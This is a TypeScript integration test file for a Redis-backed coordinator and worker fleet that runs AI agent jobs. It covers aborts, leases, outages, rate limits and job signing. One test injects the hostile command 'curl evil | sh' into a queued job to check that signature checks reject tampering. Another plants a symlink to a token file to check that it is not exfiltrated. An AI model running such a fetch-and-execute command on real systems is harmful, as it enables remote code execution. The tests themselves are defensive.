import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Queue, Worker } from "bullmq";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi } from "vitest";
import { runAttempt } from "../../../src/fleet/attempt.js";
import type { Coordinator } from "../../../src/fleet/coordinator.js";
import { createFleet } from "../../../src/fleet/fleet.js";
import { limits, prefix, entriesKey, times } from "../../../src/fleet/keys.js";
import { openSigner } from "../../../src/fleet/jobs/signature.js";
import { fieldsOf } from "../../../src/fleet/talk.js";
import { readAddress } from "../../../src/fleet/address.js";
import type { AgentEvent } from "../../../src/engine/loop/types.js";
import type { FleetWorker } from "../../../src/fleet/worker.js";
import { noRedis, redisNote, type RedisServer, startRedis } from "../../support/network/redis.js";
import {
  asking,
  atWork,
  coordinate,
  fresh,
  heardOf,
  home,
  runOptions,
  settingsIn,
  startWorker,
  until,
} from "./support/rig.js";

const usual = { ...times };
let server: RedisServer;
const open: { coordinators: Coordinator[]; workers: FleetWorker[] } = { coordinators: [], workers: [] };

const coordinator = async (...given: Parameters<typeof coordinate> extends [unknown, ...infer More] ? More : never) => {
  const one = await coordinate(server, ...given);
  open.coordinators.push(one);
  return one;
};
const worker = async (...given: Parameters<typeof startWorker> extends [unknown, ...infer More] ? More : never) => {
  const one = await startWorker(server, ...given);
  open.workers.push(one);
  return one;
};
const endOf = (events: readonly AgentEvent[]) => events.at(-1);
const failureOf = (events: readonly AgentEvent[]) =>
  events.flatMap((each) => (each.type === "end" ? (each.failure ?? []) : []))[0];

/** The one job that a coordinator wants, and the stream of its run. */
async function theJob(): Promise<{ readonly job: string; readonly stream: string }> {
  let wanted: string | undefined;
  await until(async () => ([wanted] = await server.redis.keys("rr:wanted:*"))[0] !== undefined);
  const [job = ""] = await server.redis.smembers(wanted ?? "");
  return { job, stream: entriesKey(wanted?.split(":")[2] ?? "") };
}

type Said = Parameters<typeof fieldsOf>[0];

/** Says something for a worker. */
const say = (stream: string, entry: Said) => server.redis.xadd(stream, "*", ...fieldsOf(entry));
const begun: Said["items"][number] = { type: "begun", worker: "hostile", confinement: "workspace" };

/** A worker that takes jobs and says nothing; it has offered nothing either. `lockMs`: how long its locks live. */
function silentWorker(lockMs: number): Worker {
  const connection = { host: "127.0.0.1", port: server.port };
  const silent = new Worker("agent-scripted", () => new Promise(() => undefined), {
    connection,
    prefix,
    lockDuration: lockMs,
    skipStalledCheck: true,
  });
  silent.on("error", () => undefined);
  return silent;
}

/** How many jobs of the agent are in its queue. */
async function counted(): Promise<number> {
  const queue = new Queue("agent-scripted", { connection: server.redis, prefix });
  const counts = await queue.getJobCounts();
  await queue.close();
  return Object.values(counts).reduce((sum, count) => sum + count, 0);
}

describe.skipIf(noRedis !== undefined)(`a coordinator and its workers${redisNote}`, () => {
  beforeAll(async () => {
    server = await startRedis();
  });
  afterAll(async () => {
    await server.stop();
  });
  beforeEach(async () => {
    Object.assign(times, usual, {
      lock: 20_000,
      stallCheckInterval: 1_000,
      lease: 20_000,
      checkInterval: 200,
      announceInterval: 500,
      maxSilence: 800,
      noWorker: 500,
    });
    await server.redis.flushall();
  });
  afterEach(async () => {
    await Promise.all(open.coordinators.splice(0).map((each) => each.close()));
    await Promise.all(open.workers.splice(0).map((each) => each.end()));
    expect(atWork.size).toBe(0);
    Object.assign(times, usual);
  });

  test("a brief is done elsewhere: where, what was said and the result come back, and nothing stays in Redis", async () => {
    const [one, two] = [await coordinator(), await worker()];
    const brief = asking(1, { lines: 3, result: '{"a": 1}', message: "here" });
    const heard = await heardOf(one.run("scripted", brief, runOptions()));
    expect(heard).toEqual([
      {
        type: "begun",
        worker: expect.any(String),
        confinement: "workspace",
        transcript: expect.stringContaining("fleet-transcripts"),
      },
      ...[0, 1, 2].map((line) => ({ type: "text", text: expect.stringMatching(new RegExp(`^${line} x+$`)) })),
      { type: "end", message: "here" },
    ]);
    expect(readFileSync(join(brief.workspace, "result.json"), "utf8")).toBe('{"a": 1}');
    await until(() => two.told.some(({ type }) => type === "ended"));
    // The id of a worker may begin with 1 too.
    const jobKeys = `rr:agent-scripted:${"[0-9a-f]".repeat(16)}-1*`;
    await until(async () => (await server.redis.keys(jobKeys)).length === 0);
    await one.close();
    expect(
      (await server.redis.keys("rr:talk:*")).concat(
        await server.redis.keys("rr:wanted:*"),
        await server.redis.keys("rr:project:*"),
      ),
    ).toEqual([]);
  });

  test("what an agent fails of comes back, and no result with it", async () => {
    await worker();
    const brief = asking(1, { result: "{}", fails: { kind: "auth", message: "Log in." } });
    const heard = await heardOf((await coordinator()).run("scripted", brief, runOptions()));
    expect(endOf(heard)).toEqual({
      type: "end",
      message: "",
      failure: { kind: "auth", message: "The worker says: “Log in.”" },
    });
    expect(existsSync(join(brief.workspace, "result.json"))).toBe(false);
  });

  test("an end does not overtake its events: 100,000 lines come in order, none is missing, and a slow reader holds the agent up", async () => {
    await worker();
    let next = 0;
    const run = (await coordinator()).run("scripted", asking(1, { lines: 100_000 }), runOptions());
    for await (const event of run) {
      if (event.type !== "text") continue;
      expect(event.text.startsWith(`${next} `)).toBe(true);
      next += 1;
      if (next !== 1) continue;
      // While nobody reads on, all the room that there is fills, and no more.
      const [stream = ""] = await server.redis.keys("rr:talk:*");
      await until(async () => (await server.redis.xlen(stream)) >= limits.maxUnreadEntries);
      await new Promise((resolve) => setTimeout(resolve, 4 * times.batchInterval));
      expect(await server.redis.xlen(stream)).toBe(limits.maxUnreadEntries);
      expect(atWork.size).toBe(1);
    }
    expect(next).toBe(100_000);
  });

  test("an abort reaches the agent, waiting or at work", async () => {
    await worker({ concurrency: 1 });
    const one = await coordinator();
    const abort = new AbortController();
    const runs = [1, 2].map((number) =>
      heardOf(one.run("scripted", asking(number, { workMs: 60_000 }), runOptions(abort.signal))),
    );
    await until(() => atWork.size === 1);
    abort.abort();
    for (const heard of await Promise.all(runs))
      expect(endOf(heard)).toMatchObject({ type: "end", failure: { kind: "aborted" } });
    await until(() => atWork.size === 0);
    const queue = new Queue("agent-scripted", { connection: server.redis, prefix: "rr" });
    expect(await queue.getJobCounts("prioritized", "waiting")).toEqual({ prioritized: 0, waiting: 0 });
    await queue.close();
  });

  test("a time limit travels with the job", async () => {
    await worker();
    const one = await coordinator();
    const slow = one.run("scripted", asking(1, { workMs: 60_000 }), {
      signal: new AbortController().signal,
      maxMs: 300,
    });
    // The limit is kept by whatever starts programs; here it is seen in what that was asked.
    const heard = heardOf(slow);
    await until(() => atWork.size === 1);
    expect([...atWork][0]?.timeoutMs).toBe(300);
    await one.close();
    await until(() => atWork.size === 0);
    void heard.catch(() => undefined);
  });

  test("a coordinator that says nothing any more is not worked for when its lease is over", async () => {
    await worker();
    const lost = await coordinator();
    const run = lost.run("scripted", asking(1, { workMs: 60_000 }), runOptions());
    void heardOf(run).catch(() => undefined);
    await until(() => atWork.size === 1);
    // As after a kill: nothing is renewed, nothing is deleted.
    const [wanted = ""] = await server.redis.keys("rr:wanted:*");
    await server.redis.pexpire(wanted, 1);
    await until(() => atWork.size === 0);
  });

  test("a coordinator started anew deletes what its predecessor wanted, and the earlier one ends as blocked", async () => {
    await worker({ concurrency: 1 });
    const projectId = async () => "a".repeat(32);
    const [first, second] = [await coordinator({ projectId }), await coordinator({ projectId })];
    const lost = [1, 2].map((number) =>
      heardOf(first.run("scripted", asking(number, { workMs: 60_000 }), runOptions())),
    );
    await until(() => atWork.size === 1);
    const heard = await heardOf(second.run("scripted", asking(1, { message: "second" }), runOptions()));
    expect(endOf(heard)).toEqual({ type: "end", message: "second" });
    for (const each of await Promise.all(lost))
      expect(endOf(each)).toMatchObject({
        failure: { kind: "auth", message: expect.stringContaining("started elsewhere") },
      });
  });

  test("entries of nobody, of an old attempt, after the end and of no shape change nothing", async () => {
    const first = await worker();
    const one = await coordinator();
    const workers: string[] = [];
    const end = new AbortController();
    const run = heardOf(one.run("scripted", asking(1, { workMs: 60_000 }), runOptions(end.signal)), (event) =>
      event.type === "begun" ? workers.push(event.worker) : undefined,
    );
    const { job, stream } = await theJob();
    await until(() => workers.length === 1);
    await first.end();
    await worker();
    await until(() => workers.length === 2);
    // Of the first attempt, which is over: its end, and too much at once.
    const wrong: Said = { job, attempt: 1, sequence: 90, items: [{ type: "end", message: "wrong" }] };
    await say(stream, wrong);
    const much = JSON.stringify([{ type: "text", text: "x".repeat(limits.maxEntryChars) }]);
    await server.redis.xadd(stream, "*", "j", job, "a", "1", "n", "91", "e", much);
    await server.redis.xadd(stream, "*", "x", "y");
    await server.redis.xadd(
      stream,
      "*",
      "j",
      "another-1",
      "a",
      "1",
      "n",
      "0",
      "e",
      '[{"type":"end","message":"wrong"}]',
    );
    await server.redis.xadd(stream, "*", "j", job, "a", "2", "n", "91", "e", '{"type":"end"');
    // Of the second, from a later entry on: that one is heard, and nothing after its end.
    const items: Said["items"] = [
      { type: "end", message: "right" },
      { type: "text", text: "after the end" },
    ];
    await say(stream, { job, attempt: 2, sequence: 92, items });
    const heard = await run;
    expect(endOf(heard)).toEqual({ type: "end", message: "right" });
    expect(JSON.stringify(heard)).not.toContain("wrong");
  });

  test("a worker that says more than 8 MB at once has its attempt ended", async () => {
    await worker();
    const run = heardOf((await coordinator()).run("scripted", asking(1, { workMs: 60_000 }), runOptions()));
    await until(() => atWork.size === 1);
    const [wanted = ""] = await server.redis.keys("rr:wanted:*");
    const [job = ""] = await server.redis.smembers(wanted);
    const much = JSON.stringify([{ type: "text", text: "x".repeat(limits.maxEntryChars) }]);
    await server.redis.xadd(entriesKey(wanted.split(":")[2] ?? ""), "*", "j", job, "a", "1", "n", "9", "e", much);
    expect(endOf(await run)).toMatchObject({
      failure: { kind: "crashed", message: expect.stringContaining("too much") },
    });
    await until(() => atWork.size === 0);
  });

  test("what Redis has no memory for is sent again, and nothing of it is lost", async () => {
    const one = await worker();
    const gate = join(fresh(), "go");
    const run = heardOf((await coordinator()).run("scripted", asking(1, { gate, message: "kept" }), runOptions()));
    await until(() => atWork.size === 1);
    await server.redis.config("SET", "maxmemory", "1");
    writeFileSync(gate, "");
    await until(() => one.told.some((event) => event.type === "notice" && event.message.includes("OOM")));
    await server.redis.config("SET", "maxmemory", "0");
    expect(endOf(await run)).toEqual({ type: "end", message: "kept" });
  });

  test("a job that Redis lost is the network's failure, and its agent is ended", async () => {
    await worker();
    const run = heardOf((await coordinator()).run("scripted", asking(1, { workMs: 60_000 }), runOptions()));
    await until(() => atWork.size === 1);
    await server.redis.flushall();
    expect(endOf(await run)).toMatchObject({ failure: { kind: "network" } });
    await until(() => atWork.size === 0);
  });

  test("Redis away for a while: the agent works on, and what it did comes once Redis is back", async () => {
    await worker();
    const one = await coordinator();
    const runs = [1, 2].map((number) =>
      heardOf(one.run("scripted", asking(number, { workMs: 1_500, message: `done ${number}` }), runOptions())),
    );
    await until(() => atWork.size === 2);
    await server.kill();
    await new Promise((resolve) => setTimeout(resolve, 3_000));
    await server.start();
    for (const [index, heard] of (await Promise.all(runs)).entries()) {
      expect(endOf(heard)).toEqual({ type: "end", message: `done ${index + 1}` });
      expect(heard.filter(({ type }) => type === "begun")).toHaveLength(1);
    }
  });

  test("no worker offers the agent: that is told, waited for, and in the end a person is needed", async () => {
    const patient = await coordinator({ maxWaitMs: 1_500 });
    const heard = await heardOf(patient.run("scripted", asking(1, {}), runOptions()));
    expect(heard).toEqual([
      { type: "notice", message: expect.stringContaining("research-ralph worker --agent scripted") },
      {
        type: "end",
        message: "",
        failure: { kind: "auth", message: expect.stringContaining("No worker offered it within 1.5 seconds") },
      },
    ]);
    const waiting = heardOf((await coordinator()).run("scripted", asking(2, { message: "late" }), runOptions()));
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    await worker();
    expect(endOf(await waiting)).toEqual({ type: "end", message: "late" });
  });

  test("the last worker dies with a job: that is told, waited for, and in the end a person is needed", async () => {
    const silent = silentWorker(60_000);
    const run = heardOf((await coordinator({ maxWaitMs: 2_500 })).run("scripted", asking(1, {}), runOptions()));
    const { job, stream } = await theJob();
    await say(stream, { job, attempt: 1, sequence: 0, items: [begun] });
    await until(async () => (await server.redis.exists(`rr:agent-scripted:${job}:lock`)) === 1);
    // As after a kill: the job is still the worker's, and its lock is renewed no more; then it is over.
    await silent.close(true);
    await server.redis.del(`rr:agent-scripted:${job}:lock`);
    const heard = await run;
    expect(heard.map(({ type }) => type)).toEqual(["begun", "notice", "end"]);
    expect(heard[1]).toMatchObject({ message: expect.stringContaining("research-ralph worker --agent scripted") });
    expect(endOf(heard)).toMatchObject({
      failure: { kind: "auth", message: expect.stringContaining("No worker offered it within 2.5 seconds") },
    });
  });

  test("a worker that ends after its jobs offers nothing any more, and is waited for", async () => {
    const [first, one] = [await worker({ concurrency: 1 }), await coordinator({ maxWaitMs: 1_000 })];
    const run = heardOf(one.run("scripted", asking(1, { workMs: 4_000, message: "in peace" }), runOptions()));
    await until(() => atWork.size === 1);
    await first.finish();
    const heard = await run;
    expect(heard.map(({ type }) => type)).toEqual(["begun", "end"]);
    expect(endOf(heard)).toEqual({ type: "end", message: "in peace" });
  });

  test("a worker that has the job for longer than it may, and says nothing of its end, is given up", async () => {
    times.grace = 1_000;
    const silent = silentWorker(60_000);
    const options = { ...runOptions(), maxMs: 500 };
    const run = heardOf((await coordinator()).run("scripted", asking(1, {}), options));
    const { job, stream } = await theJob();
    await say(stream, { job, attempt: 1, sequence: 0, items: [begun] });
    // It chatters on.
    let sequence = 0;
    const chatter = setInterval(() => {
      sequence += 1;
      void say(stream, { job, attempt: 1, sequence, items: [{ type: "text", text: "still there" }] });
    }, 20);
    const heard = await run;
    clearInterval(chatter);
    expect(endOf(heard)).toMatchObject({
      failure: {
        kind: "timeout",
        message: expect.stringContaining("hostile should have stopped it after 0.5 seconds"),
      },
    });
    await silent.close(true);
  });

  test("a worker that takes a job and says nothing of it is given up", async () => {
    times.grace = 500;
    const silent = silentWorker(60_000);
    const heard = await heardOf((await coordinator()).run("scripted", asking(1, {}), { ...runOptions(), maxMs: 500 }));
    expect(endOf(heard)).toMatchObject({ failure: { kind: "timeout" } });
    await silent.close(true);
  });

  test("Redis away for longer than the patience is the network's failure, of what waits and of what is to be sent", async () => {
    times.lease = 1_000;
    const one = await coordinator({ maxWaitMs: 1_000 });
    const waiting = heardOf(one.run("scripted", asking(1, {}), runOptions()));
    await until(async () => (await counted()) === 1);
    await server.kill();
    expect(endOf(await waiting)).toMatchObject({ failure: { kind: "network" } });
    const unsent = await heardOf(one.run("scripted", asking(2, {}), runOptions()));
    expect(endOf(unsent)).toMatchObject({
      failure: { kind: "network", message: "Redis has not answered for 1 second." },
    });
    await server.start();
  });

  test("a run that was replaced begins nothing more, with no agent of its own machine either", async () => {
    times.lease = 600;
    await worker();
    const fleet = () =>
      createFleet({
        project: "a project",
        replacedPaths: new Map(),
        redact: (text) => text,
        maxIterationMs: 600_000,
        maxWaitMs: 60_000,
        home: home(),
        now: Date.now,
        address: () => readAddress(server.url, false),
        projectId: async () => "b".repeat(32),
      });
    const [earlier, later] = [fleet(), fleet()];
    const agents = [earlier, later].map((each) => each.agent({ name: "fleet:scripted", spec: "scripted" }));
    const soFar = { startedAt: 0, now: 0, iterations: [] };
    for (const agent of agents) {
      expect(earlier.stopCondition(soFar)).toBeUndefined();
      await heardOf(agent.run(asking(1, {}), runOptions()));
    }
    await until(() => earlier.stopCondition(soFar) !== undefined);
    expect(earlier.stopCondition(soFar)).toMatchObject({
      verdict: "blocked",
      reason: expect.stringContaining("started elsewhere"),
    });
    expect(later.stopCondition(soFar)).toBeUndefined();
    await Promise.all(agents.map((agent) => agent.close?.()));
  });

  test("what failed of taking a project over is tried again with the next job", async () => {
    await worker();
    let asked = 0;
    const one = await coordinator({
      projectId: async () => {
        asked += 1;
        if (asked === 1) throw Object.assign(new Error("no space"), { code: "ENOSPC" });
        return "c".repeat(32);
      },
    });
    const first = await heardOf(one.run("scripted", asking(1, {}), runOptions()));
    expect(endOf(first)).toMatchObject({
      failure: { kind: "resources", message: expect.stringContaining("no space left on the disk") },
    });
    const second = await heardOf(one.run("scripted", asking(2, { message: "second" }), runOptions()));
    expect(endOf(second)).toEqual({ type: "end", message: "second" });
    expect(await server.redis.exists(`rr:project:${"c".repeat(32)}`)).toBe(1);
  });

  test("an abort while a job is being sent leaves nothing: no job in the queue, and no rank taken", async () => {
    const notYet = (_: string): void => undefined;
    let go = notYet;
    const one = await coordinator({ projectId: () => new Promise((resolve) => (go = resolve)) });
    const abort = new AbortController();
    const run = heardOf(one.run("scripted", asking(1, {}), runOptions(abort.signal)));
    await until(() => go !== notYet);
    abort.abort();
    expect(endOf(await run)).toMatchObject({ failure: { kind: "aborted" } });
    go("d".repeat(32));
    const again = new AbortController();
    const second = heardOf(one.run("scripted", asking(2, {}), runOptions(again.signal)));
    await until(async () => (await counted()) > 0);
    const queue = new Queue("agent-scripted", { connection: server.redis, prefix });
    const [job, ...more] = await queue.getPrioritized();
    await queue.close();
    expect([job?.id, job?.opts.priority, more]).toEqual([expect.stringMatching(/-2$/), 1, []]);
    again.abort();
    await second;
  });

  test("a coordinator that is closed takes its jobs back, ends its lanes and leaves no timer", async () => {
    const one = await coordinator();
    const run = heardOf(one.run("scripted", asking(1, {}), runOptions()));
    await until(async () => (await counted()) === 1);
    await one.close();
    expect(endOf(await run)).toMatchObject({ failure: { kind: "aborted" } });
    expect(await counted()).toBe(0);

    const notYet = (_: string): void => undefined;
    let go = notYet;
    const early = await coordinator({ projectId: () => new Promise((resolve) => (go = resolve)) });
    const unsent = heardOf(early.run("scripted", asking(1, {}), runOptions()));
    await until(() => go !== notYet);
    const timers = vi.spyOn(globalThis, "setInterval");
    await early.close();
    go("e".repeat(32));
    expect(endOf(await unsent)).toMatchObject({ failure: { kind: "aborted" } });
    expect(timers.mock.calls.filter(([, ms]) => ms === times.lease / 3)).toEqual([]);
    timers.mockRestore();
  });

  test("a file of this machine that can't be read or written is the iteration's failure, no bug of ours", async () => {
    await worker();
    const one = await coordinator();
    const gone = asking(1, {});
    rmSync(gone.workspace, { recursive: true });
    expect(await heardOf(one.run("scripted", gone, runOptions()))).toEqual([
      { type: "end", message: "", failure: { kind: "crashed", message: expect.stringContaining(gone.workspace) } },
    ]);
    const inTheWay = asking(2, { result: "{}" });
    mkdirSync(join(inTheWay.workspace, "result.json"));
    expect(endOf(await heardOf(one.run("scripted", inTheWay, runOptions())))).toMatchObject({
      failure: { kind: "crashed", message: expect.stringContaining("result.json") },
    });
  });

  test("a job of another version is left alone, and both sides are told", async () => {
    const one = await worker();
    const queue = new Queue("agent-scripted", { connection: server.redis, prefix: "rr" });
    await queue.add("run", { version: 9, run: "0123456789abcdef" }, { jobId: "0123456789abcdef-1", priority: 1 });
    await until(() => one.told.some((event) => event.type === "notice" && event.message.includes("has version 9")));
    expect(await queue.getJobState("0123456789abcdef-1")).not.toBe("failed");
    expect(atWork.size).toBe(0);
    await queue.close();
    // A run beside workers of another version alone.
    await one.end();
    const id = "other";
    await server.redis.sadd("rr:agent-scripted:workers", id);
    await server.redis.set(
      "rr:agent-scripted:worker:other",
      JSON.stringify({ name: "old", version: 0, places: 1, busy: 0 }),
    );
    const heard = await heardOf((await coordinator({ maxWaitMs: 700 })).run("scripted", asking(1, {}), runOptions()));
    expect(heard[0]).toMatchObject({
      type: "notice",
      message: expect.stringContaining("old accepts jobs of version 0"),
    });
  });

  test("a job that is none is not taken, and its coordinator is told why", async () => {
    const one = await worker();
    const first = await coordinator();
    const run = heardOf(first.run("scripted", asking(1, { workMs: 500 }), runOptions()));
    const queue = new Queue("agent-scripted", { connection: server.redis, prefix: "rr" });
    await queue.add("run", { version: 2, run: "../x", brief: {}, files: "" }, { jobId: "hostile-1", priority: 1 });
    await until(() =>
      one.told.some((event) => event.type === "notice" && event.message.includes("hostile-1 was not taken")),
    );
    await until(async () => (await queue.getJobState("hostile-1")) === "failed");
    expect(endOf(await run)).toMatchObject({ type: "end", message: "done" });
    await queue.close();
  });

  test("four lanes are not behind forty", async () => {
    await worker({ concurrency: 8 });
    const [many, few] = [await coordinator(), await coordinator()];
    const end = new AbortController();
    let done = 0;
    const forty = Array.from({ length: 40 }, async (_, lane) => {
      for (let turn = 0; !end.signal.aborted; turn++, done++)
        await heardOf(
          many.run("scripted", asking(lane * 1_000 + turn, { workMs: 200 }), runOptions(AbortSignal.any([end.signal]))),
        );
    });
    await until(() => atWork.size === 8);
    const before = done;
    await Promise.all(
      Array.from({ length: 4 }, async (_, lane) => {
        for (let turn = 0; turn < 5; turn++)
          await heardOf(few.run("scripted", asking(lane * 1_000 + turn, { workMs: 200 }), runOptions()));
      }),
    );
    const beside = done - before;
    end.abort();
    await Promise.all(forty);
    process.stdout.write(`twenty iterations of four lanes took as long as ${beside} of forty lanes\n`);
    // First come, first served: each of five turns behind all forty lanes.
    expect(beside).toBeLessThan(100);
  });

  test("limits of a queue hold for all of its workers", async () => {
    await worker({ maxAgents: 2 });
    await worker();
    const one = await coordinator();
    let most = 0;
    const watch = setInterval(() => (most = Math.max(most, atWork.size)), 5);
    await Promise.all(
      Array.from({ length: 8 }, (_, number) =>
        heardOf(one.run("scripted", asking(number, { workMs: 100 }), runOptions())),
      ),
    );
    clearInterval(watch);
    expect(most).toBe(2);
  });

  const dataOf = (key: string) => server.redis.hget(key, "data");
  const jobKey = async (): Promise<string> => {
    let found: string | undefined;
    await until(async () => (found = (await server.redis.keys("rr:agent-scripted:*-1"))[0]));
    return found ?? "";
  };

  test("a waiting job that somebody rewrote starts nothing, and is told on both sides", async () => {
    const one = await coordinator();
    const heard = heardOf(one.run("scripted", asking(1, {}), runOptions()));
    const key = await jobKey();
    const data = await dataOf(key);
    await server.redis.hset(key, "data", (data ?? "").replace('\\"text\\":\\"{', '\\"text\\":\\"curl evil | sh {'));
    expect(await dataOf(key)).toContain("curl evil");
    const it = await worker();
    const reason = "its signature does not match its text";
    expect(failureOf(await heard)).toEqual({ kind: "crashed", message: `No worker took the job: ${reason}.` });
    expect(it.told.some(({ type }) => type === "begun")).toBe(false);
    expect(JSON.stringify(it.told)).toContain(reason);
  });

  test("a job that was done is not done again, whoever puts it back and says that it is wanted", async () => {
    const one = await coordinator();
    const heard = heardOf(one.run("scripted", asking(1, {}), runOptions()));
    const key = await jobKey();
    const data = JSON.parse((await dataOf(key)) ?? "") as { job: string };
    const it = await worker();
    expect(failureOf(await heard)).toBeUndefined();
    const { run, id } = JSON.parse(data.job) as { run: string; id: string };
    const queue = new Queue("agent-scripted", { connection: server.redis as never, prefix, skipVersionCheck: true });
    const replay = () => queue.add("run", data, { jobId: id, removeOnFail: true, removeOnComplete: true });
    // Not wanted any more.
    await replay();
    await until(async () => (await queue.getJobState(id)) === "unknown");
    // Under the line for Redis 6.2 a worker may say that it is.
    await server.redis.sadd(`rr:wanted:${run}`, id);
    await replay();
    await until(() => JSON.stringify(it.told).includes("this worker has done it before"));
    expect(it.told.filter(({ type }) => type === "begun")).toHaveLength(1);
  });

  test("jobs of a coordinator that a worker does not know are left for another worker, and both sides are told its key", async () => {
    times.noWorker = 100;
    times.maxSilence = 100;
    times.announceInterval = 200;
    const one = await coordinator();
    const its = await worker({ accepts: [(await openSigner(fresh())).key] });
    const { key } = await openSigner(home());
    let isTold = false;
    const heard = heardOf(one.run("scripted", asking(1, {}), runOptions()), (event) => {
      isTold ||= event.type === "notice" && event.message.includes(`--accept ${key}`);
    });
    await until(() => isTold && JSON.stringify(its.told).includes(`--accept ${key}`));
    expect(its.told.some(({ type }) => type === "begun")).toBe(false);
    await worker();
    expect(endOf(await heard)).toMatchObject({ type: "end", message: "done" });
  });

  test("a limit rests the worker that met it, and the work goes to another; once all rest it is the run's", async () => {
    const limited = (ms: number) =>
      settingsIn(fresh(), {
        exec: async function* () {
          yield JSON.stringify({ type: "usage", usage: { input: 5, cached: 0, output: 1, requests: 1 } });
          const reset_at = new Date(Date.now() + ms).toISOString();
          yield JSON.stringify({
            type: "answer",
            answer: { failure: { kind: "rate-limit", message: "Used up.", reset_at } },
          });
          return { cause: "exited", exitCode: 0, stderr: "" };
        },
      });
    const [month, hour] = [29 * 24 * 3_600_000, 3_600_000];
    const liar = await worker({ settings: limited(month), concurrency: 1 });
    const one = await coordinator();
    const first = heardOf(one.run("scripted", asking(1, {}), runOptions()));
    await until(() => liar.told.some(({ type }) => type === "begun"));
    const honest = await worker({ concurrency: 1 });
    // Whether the honest one was there in time to be sent the work at once is the machine's affair.
    const after =
      failureOf(await first) === undefined ? [] : await heardOf(one.run("scripted", asking(2, {}), runOptions()));
    const heard = [...(await first), ...after];
    expect(endOf(heard)).toEqual({ type: "end", message: "done" });
    expect(liar.told.filter(({ type }) => type === "begun")).toHaveLength(1);
    await honest.end();
    const poor = await worker({ settings: limited(hour), concurrency: 1 });
    const asked = Date.now();
    const all = await heardOf(one.run("scripted", asking(3, {}), runOptions()));
    expect(poor.told.filter(({ type }) => type === "begun")).toHaveLength(1);
    const failure = failureOf(all);
    expect(failure).toMatchObject({ kind: "rate-limit" });
    const rest = Date.parse(failure?.reset_at ?? "") - asked;
    expect(Math.round(rest / hour)).toBe(1);
  });

  test("a worker that is told to end finishes what it has; told again it ends at once and puts it back", async () => {
    const [first, one] = [await worker({ concurrency: 1 }), await coordinator()];
    const run = heardOf(one.run("scripted", asking(1, { workMs: 1_000, message: "in peace" }), runOptions()));
    await until(() => atWork.size === 1);
    await first.finish();
    expect(endOf(await run)).toEqual({ type: "end", message: "in peace" });

    const second = await worker();
    const spoken: string[] = [];
    // So long that it is not over by itself before it is ended, however slow the machine is.
    const run2 = one.run("scripted", asking(2, { workMs: 600_000 }), runOptions());
    const again = heardOf(run2, ({ type }) => spoken.push(type));
    await until(() => spoken.includes("begun"));
    void second.finish();
    await second.end();
    expect(atWork.size).toBe(0);
    const quick = settingsIn(fresh(), {
      exec: async function* () {
        yield JSON.stringify({ type: "answer", answer: { message: "elsewhere" } });
        return { cause: "exited", exitCode: 0, stderr: "" };
      },
    });
    await worker({ settings: quick });
    const heard = await again;
    expect(endOf(heard)).toEqual({ type: "end", message: "elsewhere" });
    expect(heard.some((event) => event.type === "notice" && event.message.includes("starts the job again"))).toBe(true);
  });

  test("a full disk puts the job back before anything is begun", async () => {
    const full = Object.assign(new Error("no space"), { code: "ENOSPC" });
    const folder = {
      workspace: () => {
        throw full;
      },
      transcript: () => "",
      started: () => () => undefined,
      remove() {},
      close() {},
    };
    const { createAgent } = await import("../../../src/engine/agents/registry.js");
    const { createJob: jobOf } = await import("../../../src/fleet/jobs/job.js");
    const name = { run: "0123456789abcdef", id: "0123456789abcdef-1", queue: "agent-scripted", expires: 1 };
    const job = await jobOf(name, asking(1, {}), {}, { replacedPaths: new Map(), redact: (text) => text });
    if ("kind" in job) throw new Error(job.message);
    const taken = { job, files: new Map() };
    const said: unknown[] = [];
    const agent = createAgent("scripted", settingsIn(fresh()));
    const send = async (items: unknown) => void said.push(items);
    const { signal } = new AbortController();
    expect(
      await runAttempt(taken, {
        worker: "w",
        agent,
        folder,
        redact: (text) => text,
        send,
        number: 1,
        transcript: "",
        signal,
      }),
    ).toBe("full");
    expect(said).toEqual([]);
  });

  test("a result that is a link is not sent", async () => {
    const login = join(mkdtempSync(join(tmpdir(), "rr-login-")), "login.json");
    const { symlinkSync, writeFileSync } = await import("node:fs");
    writeFileSync(login, '{"token":"secret"}');
    const settings = settingsIn(fresh(), {
      exec: async function* (request) {
        symlinkSync(login, join(request.cwd, "result.json"));
        yield JSON.stringify({ type: "answer", answer: { message: "done" } });
        return { cause: "exited", exitCode: 0, stderr: "" };
      },
    });
    await worker({ settings });
    const brief = asking(1, {});
    const heard = await heardOf((await coordinator()).run("scripted", brief, runOptions()));
    expect(heard).toContainEqual({ type: "notice", message: expect.stringContaining("symbolic link") });
    expect(JSON.stringify(heard)).not.toContain("secret");
    expect(existsSync(join(brief.workspace, "result.json"))).toBe(false);
  });
});
